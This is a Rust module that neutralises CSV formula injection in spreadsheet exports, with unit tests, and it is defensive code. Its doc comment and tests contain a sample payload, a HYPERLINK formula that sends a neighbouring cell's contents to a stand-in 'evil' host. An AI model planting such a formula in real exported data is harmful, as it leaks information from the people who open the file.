//! CSV cells a spreadsheet cannot run: a text cell starting with `=`, `+`, `-`, `@`, a tab or a
//! carriage return is a formula to Excel and LibreOffice (a buyer can type
//! `=HYPERLINK("http://evil/?"&B2,"x")` as their name). Such a cell gets a leading `'`, as OWASP
//! recommends ("CSV Injection"). A plain number (`-12.50`, or `-12,50` in the excel dialect)
//! cannot be a formula and stays as it is, so amounts stay numeric.

use std::borrow::Cow;

/// Characters that start a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` safe to open in a spreadsheet whose decimal separator is `decimal`.
pub fn neutralise(cell: &str, decimal: char) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(first) if FORMULA_STARTS.contains(&first) && !is_plain_number(cell, decimal) => {
            Cow::Owned(format!("'{cell}"))
        }
        _ => Cow::Borrowed(cell),
    }
}

/// An optional `-`, digits, and optionally `decimal` and digits: nothing a spreadsheet
/// evaluates.
fn is_plain_number(cell: &str, decimal: char) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let (whole, fraction) = digits.split_once(decimal).unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

/// A neutralised cell as the csv crate takes it (no copy unless it changed).
struct Cell<'a>(Cow<'a, str>);

impl AsRef<[u8]> for Cell<'_> {
    fn as_ref(&self) -> &[u8] {
        self.0.as_bytes()
    }
}

/// A CSV writer whose every record goes through [`neutralise`]: the only way the exports write
/// rows.
pub struct SafeCsvWriter<W: std::io::Write> {
    writer: csv::Writer<W>,
    /// The decimal separator of the file's amounts.
    decimal: char,
}

impl<W: std::io::Write> SafeCsvWriter<W> {
    pub fn new(writer: csv::Writer<W>, decimal: char) -> Self {
        Self { writer, decimal }
    }

    pub fn write_record<'a>(
        &mut self,
        cells: impl IntoIterator<Item = &'a str>,
    ) -> Result<(), csv::Error> {
        let decimal = self.decimal;
        self.writer.write_record(
            cells
                .into_iter()
                .map(|cell| Cell(neutralise(cell, decimal))),
        )
    }

    /// The written bytes (the buffered rest flushed first).
    pub fn into_inner(self) -> Result<W, csv::Error> {
        self.writer
            .into_inner()
            .map_err(|e| csv::Error::from(std::io::Error::other(e.to_string())))
    }
}

#[cfg(test)]
mod tests {
    use super::neutralise;

    #[test]
    fn formulas_are_quoted_and_numbers_are_not() {
        for formula in [
            "=HYPERLINK(\"http://evil/?\"&B2,\"x\")",
            "+48 600 100 200",
            "-1+1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "-",
            "-.5",
        ] {
            assert_eq!(
                neutralise(formula, '.'),
                format!("'{formula}"),
                "{formula:?}"
            );
        }
        // A decimal comma is a number only where it is the file's separator.
        assert_eq!(neutralise("-12,50", '.'), "'-12,50");
        assert_eq!(neutralise("-12.50", ','), "'-12.50");
        assert_eq!(neutralise("-12,50", ','), "-12,50");
        for kept in [
            "-12.50",
            "12.50",
            "-3",
            "0",
            "",
            "Jan =1",
            "Łódź",
            "2026-01-01",
        ] {
            assert_eq!(neutralise(kept, '.'), kept, "{kept:?}");
        }
    }
}
